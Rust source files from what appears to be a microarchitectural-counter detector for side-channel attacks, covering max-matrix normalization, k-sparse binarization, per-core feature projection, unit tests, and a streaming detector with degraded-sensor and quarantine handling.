/// `core<N>.`-scoped pipeline columns plus every shared (unscoped) uncore
/// column, in schema order. Other cores' private banks are excluded — an
/// attacker-core detector sees `core0.*` + `l2.*`/`tol2bus.*`/…, a
/// victim-core detector sees `core1.*` + the same shared columns.
///
/// On a flat single-core schema every column is unscoped, so the slice is
/// the identity projection — per-core views degrade gracefully to the
/// classic full-width encoder. Feed the result to
/// [`RowEncoder::with_projection`] to build the per-core view.
pub fn core_feature_indices<S: AsRef<str>>(names: &[S], core: usize) -> Vec<usize> {
    names
        .iter()
        .enumerate()
        .filter(
            |(_, n)| match uarch_stats::ComponentRegistry::scope_of(n.as_ref()) {
                Some(scope) => scope == core,
                None => true,
            },
        )
        .map(|(i, _)| i)
        .collect()
}

impl MaxMatrix {
    /// Builds *M* from a collected corpus.
    ///
    /// # Panics
    ///
    /// Panics if the corpus is empty.
    pub fn fit(corpus: &CollectedCorpus) -> Self {
        let width = corpus.schema().len();
        let depth = corpus
            .traces
            .iter()
            .map(|t| t.trace.len())
            .max()
            .expect("non-empty corpus");
        let mut maxima = vec![vec![0.0f64; depth]; width];
        let mut global = vec![0.0f64; width];
        for t in &corpus.traces {
            for (j, row) in t.trace.rows().enumerate() {
                for (i, &v) in row.iter().enumerate() {
                    let v = v.abs();
                    // A non-finite reading (corrupted sensor) must not
                    // poison the reference maxima: an ∞ maximum would
                    // scale every later value of the feature to zero.
                    if !v.is_finite() {
                        continue;
                    }
                    if v > maxima[i][j] {
                        maxima[i][j] = v;
                    }
                    if v > global[i] {
                        global[i] = v;
                    }
                }
            }
        }
        Self { maxima, global }
    }

    /// Number of features (rows of *M*).
    pub fn features(&self) -> usize {
        self.maxima.len()
    }

    /// Number of stored sampling points (columns of *M*).
    pub fn sample_points(&self) -> usize {
        self.maxima.first().map_or(0, Vec::len)
    }

    /// The maximum for feature `i` at sampling point `j` (falling back to
    /// the global maximum beyond the stored horizon or when the stored
    /// maximum is zero, subnormal or otherwise unusable as a divisor).
    pub fn max_at(&self, i: usize, j: usize) -> f64 {
        let m = self.maxima[i].get(j).copied().unwrap_or(0.0);
        if m >= f64::MIN_POSITIVE && m.is_finite() {
            m
        } else {
            self.global[i]
        }
    }

    /// The global maximum of feature `i` across the whole reference
    /// corpus. Zero means the counter never fired in training — a feature
    /// the live pipeline cannot distinguish from a dropped sensor.
    pub fn global_max(&self, i: usize) -> f64 {
        self.global[i]
    }

    /// Scales one raw sample row taken at sampling point `j` into `[0, 1]`
    /// values (0 when the counter never fired in the reference corpus).
    pub fn normalize(&self, row: &[f64], j: usize) -> Vec<f64> {
        row.iter()
            .enumerate()
            .map(|(i, &v)| encode_value(self.max_at(i, j), v, Encoding::Normalized))
            .collect()
    }

    /// Encodes one raw sample row into the k-sparse 0/1 representation.
    pub fn binarize(&self, row: &[f64], j: usize) -> Vec<f64> {
        row.iter()
            .enumerate()
            .map(|(i, &v)| encode_value(self.max_at(i, j), v, Encoding::KSparse))
            .collect()
    }
}

/// Encodes raw per-interval delta rows into model inputs: scaling by the
/// reference maxima, the chosen [`Encoding`], and an optional feature
/// projection, with an allocation-free `encode_into` for streaming use.
///
/// This is the one per-sample normalization/binarization helper shared by
/// every feature view — construct it directly for the full space, or via
/// [`FeatureSelection::encoder`](crate::features::FeatureSelection::encoder)
/// / [`map_features::map_encoder`](crate::map_features::map_encoder) for
/// the projected views.
#[derive(Debug, Clone)]
pub struct RowEncoder {
    max: Arc<MaxMatrix>,
    encoding: Encoding,
    /// Schema indices to keep, in output order; `None` keeps every column.
    projection: Option<Vec<usize>>,
}

impl RowEncoder {
    /// Creates a full-width encoder over the fitted maxima.
    pub fn new(max: Arc<MaxMatrix>, encoding: Encoding) -> Self {
        Self {
            max,
            encoding,
            projection: None,
        }
    }

    /// Restricts the output to the given schema indices (builder style).
    pub fn with_projection(mut self, indices: Vec<usize>) -> Self {
        self.projection = Some(indices);
        self
    }

    /// The encoding applied to every value.
    pub fn encoding(&self) -> Encoding {
        self.encoding
    }

    /// The fitted reference maxima.
    pub fn max_matrix(&self) -> &MaxMatrix {
        &self.max
    }

    /// Output width: projected count, or the full feature count.
    pub fn width(&self) -> usize {
        self.projection
            .as_ref()
            .map_or(self.max.features(), Vec::len)
    }

    /// Encodes a raw full-width delta row taken at sampling point `j` into
    /// `out` (cleared first). Reusing `out` across calls makes the
    /// per-interval transform allocation-free.
    pub fn encode_into(&self, row: &[f64], j: usize, out: &mut Vec<f64>) {
        out.clear();
        match &self.projection {
            None => out.extend(
                row.iter()
                    .enumerate()
                    .map(|(i, &v)| encode_value(self.max.max_at(i, j), v, self.encoding)),
            ),
            Some(p) => out.extend(
                p.iter()
                    .map(|&i| encode_value(self.max.max_at(i, j), row[i], self.encoding)),
            ),
        }
    }

    /// Allocating convenience wrapper around [`RowEncoder::encode_into`].
    pub fn encode(&self, row: &[f64], j: usize) -> Vec<f64> {
        let mut out = Vec::with_capacity(self.width());
        self.encode_into(row, j, &mut out);
        out
    }

    /// Encodes a raw full-width delta row taken at sampling point `j`
    /// directly into a packed [`BitRow`] (reset first; reallocated only if
    /// its width differs): a lane's bit is set exactly when
    /// [`RowEncoder::encode_into`] would produce `1.0` for it, and a
    /// lane's validity bit is cleared when the value was masked (a
    /// non-finite sensor reading, or a non-finite/subnormal reference
    /// maximum with no usable global fallback) — so degraded-lane
    /// accounting survives packing even after the raw `f64` row is gone.
    ///
    /// # Panics
    ///
    /// Panics unless the encoder uses [`Encoding::KSparse`]: packed rows
    /// are a representation of the binarized encoding only.
    pub fn encode_bits_into(&self, row: &[f64], j: usize, out: &mut BitRow) {
        assert_eq!(
            self.encoding,
            Encoding::KSparse,
            "packed rows exist only for the k-sparse binarized encoding"
        );
        if out.width() != self.width() {
            *out = BitRow::zeros(self.width());
        } else {
            out.clear();
        }
        let mut encode_lane = |lane: usize, i: usize, v: f64| {
            let max = self.max.max_at(i, j);
            if lane_masked(max, v) {
                out.set_valid(lane, false);
            } else if encode_value(max, v, Encoding::KSparse) == 1.0 {
                out.set(lane, true);
            }
        };
        match &self.projection {
            None => {
                for (i, &v) in row.iter().enumerate() {
                    encode_lane(i, i, v);
                }
            }
            Some(p) => {
                for (lane, &i) in p.iter().enumerate() {
                    encode_lane(lane, i, row[i]);
                }
            }
        }
    }

    /// Allocating convenience wrapper around
    /// [`RowEncoder::encode_bits_into`].
    pub fn encode_bits(&self, row: &[f64], j: usize) -> BitRow {
        let mut out = BitRow::zeros(self.width());
        self.encode_bits_into(row, j, &mut out);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trace::{CollectedCorpus, LabeledTrace};
    use uarch_stats::{stat_group, Counter, SampleTrace, Sampler};
    use workloads::{Class, Family};

    stat_group! {
        /// Two-feature toy group.
        pub struct Toy {
            /// a.
            pub a: Counter => "a",
            /// b.
            pub b: Counter => "b",
        }
    }

    fn toy_corpus(rows: Vec<Vec<f64>>) -> CollectedCorpus {
        let g = Toy::default();
        let s = Sampler::new(&g, "t");
        let mut trace = SampleTrace::new(s.schema().clone());
        for (j, r) in rows.into_iter().enumerate() {
            trace.push((j as u64 + 1) * 10_000, &r);
        }
        CollectedCorpus {
            traces: vec![LabeledTrace {
                name: "toy".into(),
                class: Class::Benign,
                family: Family::Benign,
                trace,
                marks: vec![],
            }],
            sample_interval: 10_000,
        }
    }

    #[test]
    fn maxima_are_per_sampling_point() {
        let c = toy_corpus(vec![vec![10.0, 1.0], vec![2.0, 100.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.max_at(0, 0), 10.0);
        assert_eq!(m.max_at(0, 1), 2.0);
        assert_eq!(m.max_at(1, 1), 100.0);
    }

    #[test]
    fn normalize_scales_into_unit_interval() {
        let c = toy_corpus(vec![vec![10.0, 4.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.normalize(&[5.0, 4.0], 0), vec![0.5, 1.0]);
    }

    #[test]
    fn binarize_thresholds_at_half() {
        let c = toy_corpus(vec![vec![10.0, 10.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.binarize(&[6.0, 5.0], 0), vec![1.0, 0.0]);
    }

    #[test]
    fn dead_counters_encode_as_zero() {
        let c = toy_corpus(vec![vec![0.0, 10.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.normalize(&[123.0, 5.0], 0), vec![0.0, 0.5]);
    }

    #[test]
    fn beyond_horizon_falls_back_to_global_max() {
        let c = toy_corpus(vec![vec![10.0, 1.0], vec![20.0, 2.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.max_at(0, 99), 20.0);
        assert_eq!(m.normalize(&[10.0, 1.0], 99), vec![0.5, 0.5]);
    }

    #[test]
    fn corrupted_snapshot_values_encode_finite_and_masked() {
        let c = toy_corpus(vec![vec![10.0, 4.0]]);
        let m = Arc::new(MaxMatrix::fit(&c));
        for encoding in [Encoding::Normalized, Encoding::KSparse] {
            let enc = RowEncoder::new(m.clone(), encoding);
            for bad in [f64::NAN, f64::INFINITY, f64::NEG_INFINITY] {
                let out = enc.encode(&[bad, 4.0], 0);
                assert!(
                    out.iter().all(|v| v.is_finite()),
                    "{encoding:?}: corrupted input leaked non-finite output"
                );
                assert_eq!(out[0], 0.0, "corrupted value must be masked to 0");
                assert_eq!(
                    out[1],
                    enc.encode(&[1.0, 4.0], 0)[1],
                    "healthy column unaffected"
                );
            }
        }
    }

    #[test]
    fn non_finite_corpus_values_do_not_poison_the_maxima() {
        let c = toy_corpus(vec![
            vec![f64::INFINITY, 4.0],
            vec![10.0, f64::NAN],
            vec![2.0, 8.0],
        ]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.max_at(0, 0), m.global_max(0), "∞ skipped, falls back");
        assert_eq!(m.max_at(0, 1), 10.0);
        assert_eq!(m.global_max(0), 10.0);
        assert_eq!(m.max_at(1, 1), m.global_max(1), "NaN skipped, falls back");
        assert_eq!(m.global_max(1), 8.0);
        assert!(m.normalize(&[5.0, 4.0], 0).iter().all(|v| v.is_finite()));
    }

    #[test]
    fn subnormal_maxima_fall_back_to_the_global_maximum() {
        let c = toy_corpus(vec![vec![f64::MIN_POSITIVE / 2.0, 1.0], vec![10.0, 2.0]]);
        let m = MaxMatrix::fit(&c);
        // The stored sampling-point maximum is subnormal: dividing by it
        // explodes the scale, so the global maximum must win.
        assert_eq!(m.max_at(0, 0), 10.0);
        assert_eq!(m.normalize(&[5.0, 1.0], 0)[0], 0.5);
    }

    #[test]
    fn row_encoder_matches_max_matrix_paths() {
        let c = toy_corpus(vec![vec![10.0, 4.0], vec![2.0, 8.0]]);
        let m = Arc::new(MaxMatrix::fit(&c));
        let row = [6.0, 4.0];
        for j in 0..2 {
            let norm = RowEncoder::new(m.clone(), Encoding::Normalized).encode(&row, j);
            assert_eq!(norm, m.normalize(&row, j));
            let bits = RowEncoder::new(m.clone(), Encoding::KSparse).encode(&row, j);
            assert_eq!(bits, m.binarize(&row, j));
        }
    }

    #[test]
    fn core_feature_indices_slice_private_banks_and_keep_shared_columns() {
        let names = [
            "core0.fetch.SquashCycles",
            "core0.numCycles",
            "core1.fetch.SquashCycles",
            "core1.dcache.demand_misses",
            "l2.demand_misses",
            "tol2bus.arbGrants::core1",
        ];
        // Attacker-core view: own bank + shared uncore (including the
        // arbiter's per-core grant columns — contention *about* other
        // cores is shared-bus state, not their private bank).
        assert_eq!(core_feature_indices(&names, 0), vec![0, 1, 4, 5]);
        // Victim-core view.
        assert_eq!(core_feature_indices(&names, 1), vec![2, 3, 4, 5]);
        // A core with no scoped columns still sees the shared uncore.
        assert_eq!(core_feature_indices(&names, 7), vec![4, 5]);
    }

    #[test]
    fn core_feature_indices_on_a_flat_schema_are_the_identity() {
        let names = ["fetch.SquashCycles", "numCycles", "l2.demand_misses"];
        assert_eq!(core_feature_indices(&names, 0), vec![0, 1, 2]);
        assert_eq!(core_feature_indices(&names, 3), vec![0, 1, 2]);
    }

    #[test]
    fn per_core_projected_encoders_read_their_own_slice() {
        let c = toy_corpus(vec![vec![10.0, 4.0]]);
        let m = Arc::new(MaxMatrix::fit(&c));
        // Treat column 0 as core0-private, column 1 as shared: the core0
        // encoder reads both, a core1 encoder only the shared column.
        let names = ["core0.a", "membus.b"];
        let enc0 = RowEncoder::new(m.clone(), Encoding::Normalized)
            .with_projection(core_feature_indices(&names, 0));
        let enc1 = RowEncoder::new(m, Encoding::Normalized)
            .with_projection(core_feature_indices(&names, 1));
        assert_eq!(enc0.width(), 2);
        assert_eq!(enc1.width(), 1);
        assert_eq!(enc0.encode(&[5.0, 4.0], 0), vec![0.5, 1.0]);
        assert_eq!(enc1.encode(&[5.0, 4.0], 0), vec![1.0]);
    }

    #[test]
    fn row_encoder_projection_selects_and_orders_columns() {
        let c = toy_corpus(vec![vec![10.0, 4.0]]);
        let m = Arc::new(MaxMatrix::fit(&c));
        let enc = RowEncoder::new(m, Encoding::Normalized).with_projection(vec![1, 0]);
        assert_eq!(enc.width(), 2);
        assert_eq!(enc.encode(&[5.0, 4.0], 0), vec![1.0, 0.5]);
    }
}
