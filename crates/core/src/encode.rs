//! The paper's hardware-friendly input representation: per-sampling-point
//! maxima (matrix *M*) and k-sparse 0/1 binarization.

use crate::trace::CollectedCorpus;

/// The matrix *M* of §IV-C: `M[i][j]` is the maximum observed value of
/// counter `i` at execution (sampling) point `j` across the reference
/// corpus. Scaled statistic = value / M\[i\]\[j\]; the k-sparse bit is 1
/// when the scaled statistic exceeds 0.5.
#[derive(Debug, Clone)]
pub struct MaxMatrix {
    /// max\[feature\]\[sample_index\]
    maxima: Vec<Vec<f64>>,
    /// Global per-feature maxima (fallback past the last stored column).
    global: Vec<f64>,
}

impl MaxMatrix {
    /// Builds *M* from a collected corpus.
    ///
    /// # Panics
    ///
    /// Panics if the corpus is empty.
    pub fn fit(corpus: &CollectedCorpus) -> Self {
        let width = corpus.schema().len();
        let depth = corpus
            .traces
            .iter()
            .map(|t| t.trace.len())
            .max()
            .expect("non-empty corpus");
        let mut maxima = vec![vec![0.0f64; depth]; width];
        let mut global = vec![0.0f64; width];
        for t in &corpus.traces {
            for (j, row) in t.trace.rows().iter().enumerate() {
                for (i, &v) in row.iter().enumerate() {
                    let v = v.abs();
                    if v > maxima[i][j] {
                        maxima[i][j] = v;
                    }
                    if v > global[i] {
                        global[i] = v;
                    }
                }
            }
        }
        Self { maxima, global }
    }

    /// Number of features (rows of *M*).
    pub fn features(&self) -> usize {
        self.maxima.len()
    }

    /// Number of stored sampling points (columns of *M*).
    pub fn sample_points(&self) -> usize {
        self.maxima.first().map_or(0, Vec::len)
    }

    /// The maximum for feature `i` at sampling point `j` (falling back to
    /// the global maximum beyond the stored horizon or when the stored
    /// maximum is zero).
    pub fn max_at(&self, i: usize, j: usize) -> f64 {
        let m = self.maxima[i].get(j).copied().unwrap_or(0.0);
        if m > 0.0 {
            m
        } else {
            self.global[i]
        }
    }

    /// Scales one raw sample row taken at sampling point `j` into `[0, 1]`
    /// values (0 when the counter never fired in the reference corpus).
    pub fn normalize(&self, row: &[f64], j: usize) -> Vec<f64> {
        row.iter()
            .enumerate()
            .map(|(i, &v)| {
                let m = self.max_at(i, j);
                if m == 0.0 {
                    0.0
                } else {
                    (v.abs() / m).min(1.0)
                }
            })
            .collect()
    }

    /// Encodes one raw sample row into the k-sparse 0/1 representation.
    pub fn binarize(&self, row: &[f64], j: usize) -> Vec<f64> {
        self.normalize(row, j)
            .into_iter()
            .map(|v| if v > 0.5 { 1.0 } else { 0.0 })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trace::{CollectedCorpus, LabeledTrace};
    use uarch_stats::{stat_group, Counter, SampleTrace, Sampler};
    use workloads::{Class, Family};

    stat_group! {
        /// Two-feature toy group.
        pub struct Toy {
            /// a.
            pub a: Counter => "a",
            /// b.
            pub b: Counter => "b",
        }
    }

    fn toy_corpus(rows: Vec<Vec<f64>>) -> CollectedCorpus {
        let g = Toy::default();
        let s = Sampler::new(&g, "t");
        let mut trace = SampleTrace::new(s.schema().clone());
        for (j, r) in rows.into_iter().enumerate() {
            trace.push((j as u64 + 1) * 10_000, r);
        }
        CollectedCorpus {
            traces: vec![LabeledTrace {
                name: "toy".into(),
                class: Class::Benign,
                family: Family::Benign,
                trace,
                marks: vec![],
            }],
            sample_interval: 10_000,
        }
    }

    #[test]
    fn maxima_are_per_sampling_point() {
        let c = toy_corpus(vec![vec![10.0, 1.0], vec![2.0, 100.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.max_at(0, 0), 10.0);
        assert_eq!(m.max_at(0, 1), 2.0);
        assert_eq!(m.max_at(1, 1), 100.0);
    }

    #[test]
    fn normalize_scales_into_unit_interval() {
        let c = toy_corpus(vec![vec![10.0, 4.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.normalize(&[5.0, 4.0], 0), vec![0.5, 1.0]);
    }

    #[test]
    fn binarize_thresholds_at_half() {
        let c = toy_corpus(vec![vec![10.0, 10.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.binarize(&[6.0, 5.0], 0), vec![1.0, 0.0]);
    }

    #[test]
    fn dead_counters_encode_as_zero() {
        let c = toy_corpus(vec![vec![0.0, 10.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.normalize(&[123.0, 5.0], 0), vec![0.0, 0.5]);
    }

    #[test]
    fn beyond_horizon_falls_back_to_global_max() {
        let c = toy_corpus(vec![vec![10.0, 1.0], vec![20.0, 2.0]]);
        let m = MaxMatrix::fit(&c);
        assert_eq!(m.max_at(0, 99), 20.0);
        assert_eq!(m.normalize(&[10.0, 1.0], 99), vec![0.5, 0.5]);
    }
}
