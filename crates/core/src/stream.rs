//! Online per-interval processing: [`uarch_stats::SampleSink`] consumers
//! that featurize and classify each sampling window the moment the
//! simulator emits it — the deployment shape of the paper's hardware unit,
//! which scores every 10K-instruction period as it closes rather than
//! after the run.
//!
//! Two sinks are provided. [`StreamingFeaturizer`] applies the shared
//! [`RowEncoder`] transform incrementally, producing exactly the rows a
//! batch [`Dataset`](crate::dataset::Dataset) build would. A
//! [`StreamingDetector`] goes one step further and scores each encoded
//! window with a trained [`PerSpectron`], recording a verdict per
//! interval; its decisions are bit-identical to the batch
//! [`PerSpectron::confidence_series`] path because both run the same
//! encoder and the same perceptron.
//!
//! The detector sink can also run on the bit-packed fast path
//! ([`InferencePath::Packed`], via [`PerSpectron::streaming_packed`]):
//! each window is encoded straight into a [`BitRow`] projected onto the
//! selected features, buffered into a [`PackedRows`] batch, and scored by
//! a frozen [`mlkit::PackedPerceptron`] whenever the batch fills (or on
//! [`StreamingDetector::flush`]). Verdicts — confidences, suspicious
//! flags, and [`Degraded`] accounting — are bit-identical to the scalar
//! sink; only the throughput differs.

use std::sync::Arc;

use mlkit::{BitRow, PackedPerceptron, PackedRows};
use uarch_stats::SampleSink;

use crate::detector::{InferencePath, PerSpectron};
use crate::encode::{needs_sanitizing, sanitize_row, RowEncoder};

/// The encoded feature vectors produced one interval at a time.
///
/// This is the batch featurization loop turned inside out: instead of
/// materializing a full trace and encoding it row by row afterwards, the
/// featurizer is plugged into the producer as a [`SampleSink`] and
/// transforms each delta row as it arrives, tracking the sampling-point
/// cursor (the column of the max matrix) itself.
#[derive(Debug, Clone)]
pub struct StreamingFeaturizer {
    encoder: RowEncoder,
    rows: Vec<Vec<f64>>,
    insts: Vec<u64>,
    point: usize,
    sanitized: usize,
}

impl StreamingFeaturizer {
    /// Creates a featurizer applying `encoder` to every incoming row.
    pub fn new(encoder: RowEncoder) -> Self {
        Self {
            encoder,
            rows: Vec::new(),
            insts: Vec::new(),
            point: 0,
            sanitized: 0,
        }
    }

    /// The encoded feature rows, oldest first.
    pub fn rows(&self) -> &[Vec<f64>] {
        &self.rows
    }

    /// Committed-instruction counts aligned with
    /// [`StreamingFeaturizer::rows`].
    pub fn instruction_counts(&self) -> &[u64] {
        &self.insts
    }

    /// Consumes the featurizer, yielding the encoded rows.
    pub fn into_rows(self) -> Vec<Vec<f64>> {
        self.rows
    }

    /// Raw input values sanitized so far (non-finite sensor readings
    /// masked to zero before encoding).
    pub fn sanitized_values(&self) -> usize {
        self.sanitized
    }

    /// Rewinds the sampling-point cursor and clears accumulated rows, for
    /// reuse on a fresh run.
    pub fn reset(&mut self) {
        self.rows.clear();
        self.insts.clear();
        self.point = 0;
        self.sanitized = 0;
    }
}

impl SampleSink for StreamingFeaturizer {
    fn on_sample(&mut self, insts: u64, row: &[f64]) {
        // The encoder masks non-finite inputs itself; the featurizer only
        // counts them so callers can tell a degraded stream from a clean
        // one. Clean rows take the exact pre-hardening path.
        self.sanitized += row.iter().filter(|v| needs_sanitizing(**v)).count();
        self.rows.push(self.encoder.encode(row, self.point));
        self.insts.push(insts);
        self.point += 1;
    }
}

/// Why a sampling window was scored on partial evidence.
///
/// Attached to an [`IntervalVerdict`] when the incoming sensor row was not
/// fully healthy: components that should never go quiet read all-zero
/// (dropout), or values arrived non-finite and were masked before
/// scoring. The verdict itself is still rendered — the paper's replicated
/// features mean a partial footprint usually suffices — but the caller
/// can see it was reached under degradation.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Degraded {
    /// Always-active-in-training components whose counters all read zero
    /// this interval — dead sensor banks, not idleness.
    pub missing_components: Vec<String>,
    /// Raw values masked to zero because they arrived non-finite.
    pub sanitized_values: usize,
}

impl Degraded {
    fn is_clean(&self) -> bool {
        self.missing_components.is_empty() && self.sanitized_values == 0
    }
}

/// Shared health check for one raw (already sanitized) row: flags
/// always-active-in-training components whose counters all read zero —
/// dead sensor banks, not idleness — and folds in the sanitized-value
/// count. `None` means the window is clean. One implementation serves the
/// single-stream sink and the service's per-stream sessions, so degraded
/// accounting can never drift between them.
fn degraded_status(
    watchlist: &[(String, Vec<usize>)],
    raw: &[f64],
    sanitized_values: usize,
) -> Option<Degraded> {
    let mut missing_components = Vec::new();
    for (label, cols) in watchlist {
        if cols.iter().all(|&i| raw[i] == 0.0) {
            missing_components.push(label.clone());
        }
    }
    let status = Degraded {
        missing_components,
        sanitized_values,
    };
    (!status.is_clean()).then_some(status)
}

/// One per-interval classification decision.
#[derive(Debug, Clone, PartialEq)]
pub struct IntervalVerdict {
    /// Committed-instruction count when the window closed.
    pub at_inst: u64,
    /// Normalized perceptron output in `[-1, 1]`. Always finite, even on
    /// corrupted input.
    pub confidence: f64,
    /// Whether the confidence cleared the detector's threshold.
    pub suspicious: bool,
    /// `Some` when this window was scored on degraded sensor input.
    pub degraded: Option<Degraded>,
}

/// Windows buffered on the packed path before a batched scoring sweep.
/// Small enough to keep alarm latency at one batch, large enough that the
/// per-sweep overhead amortizes away.
const PACKED_BATCH: usize = 64;

/// A window encoded and buffered on the packed path, waiting for its
/// batch to be scored.
#[derive(Debug, Clone)]
struct PendingInterval {
    at_inst: u64,
    degraded: Option<Degraded>,
}

/// State of the bit-packed batched fast path: the frozen inference
/// engine, the projected packed encoder, and the current batch of
/// encoded-but-unscored windows.
#[derive(Debug, Clone)]
struct PackedPath {
    engine: PackedPerceptron,
    encoder: RowEncoder,
    /// Scratch row reused across windows.
    row: BitRow,
    batch: PackedRows,
    pending: Vec<PendingInterval>,
    /// Scratch score buffer reused across sweeps.
    scores: Vec<f64>,
}

/// An online detector: scores every sampling window against a trained
/// [`PerSpectron`] as the window closes, exactly as the hardware perceptron
/// would — encode the window's counter deltas k-sparsely, sum the weights
/// of the set bits, compare against the threshold.
///
/// Construct via [`PerSpectron::streaming`], then hand it to any
/// [`SampleSink`] producer:
///
/// ```no_run
/// use perspectron::trace::stream_trace;
/// use perspectron::{CorpusSpec, PerSpectron};
///
/// let corpus = CorpusSpec::quick().collect();
/// let detector = PerSpectron::train(&corpus, 42);
/// let mut monitor = detector.streaming();
/// let suspect = &workloads::full_suite()[0];
/// stream_trace(suspect, 300_000, 10_000, &mut monitor);
/// if let Some(v) = monitor.first_alarm() {
///     println!("alarm at {} insts (confidence {:.2})", v.at_inst, v.confidence);
/// }
/// ```
///
/// [`PerSpectron::streaming_packed`] yields the same sink on the
/// bit-packed fast path: windows are buffered into batches of 64 and
/// scored in one sweep each. The verdicts are bit-identical; the one
/// behavioral difference is latency — verdicts appear when a batch fills,
/// so callers must invoke [`StreamingDetector::flush`] after the stream
/// ends to score the final partial batch.
#[derive(Debug, Clone)]
pub struct StreamingDetector {
    detector: PerSpectron,
    encoder: RowEncoder,
    /// Components that never go quiet on a healthy machine, with their
    /// schema columns — the dropout watchlist (shared, from training).
    watchlist: Arc<Vec<(String, Vec<usize>)>>,
    buf: Vec<f64>,
    /// Scratch copy of the raw row when sanitization is needed (clean
    /// rows are scored straight off the borrow).
    raw_buf: Vec<f64>,
    point: usize,
    verdicts: Vec<IntervalVerdict>,
    /// `Some` when this sink scores through the bit-packed fast path.
    packed: Option<PackedPath>,
}

impl StreamingDetector {
    /// Wraps a trained detector for online use (scalar reference path).
    pub fn new(detector: &PerSpectron) -> Self {
        Self::with_path(detector, InferencePath::Scalar)
    }

    /// Wraps a trained detector for online use on the chosen inference
    /// path. On [`InferencePath::Packed`], remember to call
    /// [`StreamingDetector::flush`] once the stream ends.
    pub fn with_path(detector: &PerSpectron, path: InferencePath) -> Self {
        let encoder = detector.input_encoder();
        let width = encoder.width();
        let packed = match path {
            InferencePath::Scalar => None,
            InferencePath::Packed => {
                let encoder = detector.packed_encoder();
                let w = encoder.width();
                Some(PackedPath {
                    engine: detector.packed_perceptron().clone(),
                    encoder,
                    row: BitRow::zeros(w),
                    batch: PackedRows::new(w),
                    pending: Vec::with_capacity(PACKED_BATCH),
                    scores: Vec::with_capacity(PACKED_BATCH),
                })
            }
        };
        Self {
            watchlist: detector.always_active_components(),
            detector: detector.clone(),
            encoder,
            buf: Vec::with_capacity(width),
            raw_buf: Vec::new(),
            point: 0,
            verdicts: Vec::new(),
            packed,
        }
    }

    /// Which inference engine this sink scores windows with.
    pub fn inference_path(&self) -> InferencePath {
        if self.packed.is_some() {
            InferencePath::Packed
        } else {
            InferencePath::Scalar
        }
    }

    /// Windows encoded but not yet scored (always zero on the scalar
    /// path; at most one batch minus one on the packed path).
    pub fn pending_intervals(&self) -> usize {
        self.packed.as_ref().map_or(0, |p| p.pending.len())
    }

    /// Scores any buffered windows immediately (no-op on the scalar
    /// path). Packed-path callers must invoke this once the stream ends so
    /// the final partial batch reaches the verdict log.
    pub fn flush(&mut self) {
        let Some(p) = &mut self.packed else {
            return;
        };
        if p.pending.is_empty() {
            return;
        }
        p.engine.score_rows(&p.batch, &mut p.scores);
        debug_assert_eq!(p.scores.len(), p.pending.len());
        for (meta, &raw_score) in p.pending.drain(..).zip(p.scores.iter()) {
            let confidence = self.detector.normalize_score(raw_score);
            self.verdicts.push(IntervalVerdict {
                at_inst: meta.at_inst,
                confidence,
                suspicious: confidence >= self.detector.threshold,
                degraded: meta.degraded,
            });
        }
        p.batch.clear();
    }

    /// Every per-interval verdict so far, oldest first.
    pub fn verdicts(&self) -> &[IntervalVerdict] {
        &self.verdicts
    }

    /// Whether any window has been flagged suspicious.
    pub fn alarmed(&self) -> bool {
        self.verdicts.iter().any(|v| v.suspicious)
    }

    /// The first suspicious window, if any — the detection latency story.
    pub fn first_alarm(&self) -> Option<&IntervalVerdict> {
        self.verdicts.iter().find(|v| v.suspicious)
    }

    /// Windows scored under degraded sensor input so far.
    pub fn degraded_intervals(&self) -> usize {
        self.verdicts
            .iter()
            .filter(|v| v.degraded.is_some())
            .count()
    }

    /// Rewinds the sampling-point cursor and clears verdicts (and, on the
    /// packed path, any unscored batch), for reuse on a fresh process.
    pub fn reset(&mut self) {
        self.verdicts.clear();
        self.point = 0;
        if let Some(p) = &mut self.packed {
            p.batch.clear();
            p.pending.clear();
        }
    }
}

impl SampleSink for StreamingDetector {
    fn on_sample(&mut self, insts: u64, row: &[f64]) {
        // Sanitize: a non-finite sensor reading is masked to zero (the
        // encoder would mask it anyway — the copy exists so the dropout
        // check below never compares against NaN). Clean rows — the
        // overwhelmingly common case — are scored straight off the
        // borrowed slice, bit-identically to the pre-hardening path.
        let (raw, sanitized_values) = sanitize_row(row, &mut self.raw_buf);
        let degraded = degraded_status(&self.watchlist, raw, sanitized_values);
        match &mut self.packed {
            None => {
                self.encoder.encode_into(raw, self.point, &mut self.buf);
                let confidence = self.detector.confidence(&self.buf);
                self.verdicts.push(IntervalVerdict {
                    at_inst: insts,
                    confidence,
                    suspicious: confidence >= self.detector.threshold,
                    degraded,
                });
            }
            Some(p) => {
                p.encoder.encode_bits_into(raw, self.point, &mut p.row);
                p.batch
                    .push(&p.row)
                    .expect("encoder and batch widths agree");
                p.pending.push(PendingInterval {
                    at_inst: insts,
                    degraded,
                });
            }
        }
        self.point += 1;
        if self
            .packed
            .as_ref()
            .is_some_and(|p| p.pending.len() >= PACKED_BATCH)
        {
            self.flush();
        }
    }
}

/// Health of one telemetry stream, as tracked by a [`StreamSession`].
///
/// `Degraded` clears back to `Healthy` on the next clean window;
/// `Quarantined` (too many *consecutive* degraded windows) is sticky —
/// the stream's sensor bank needs operator attention, not optimism. A
/// quarantined session still scores every window (the paper's replicated
/// features make partial footprints usable), it just carries the flag so
/// a fleet operator can route the stream for investigation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    /// Last window was scored on fully healthy input.
    Healthy,
    /// Last window was scored on degraded input (dead sensor banks or
    /// masked values).
    Degraded,
    /// Too many consecutive degraded windows; sticky until reset.
    Quarantined,
}

/// Consecutive degraded windows before a session is quarantined, unless
/// overridden via [`StreamSession::with_quarantine_after`].
pub const DEFAULT_QUARANTINE_AFTER: usize = 8;

/// Per-stream detection state for a multi-stream service: the sampling
/// point cursor, degraded/quarantine tracking, and the stream's verdict
/// log.
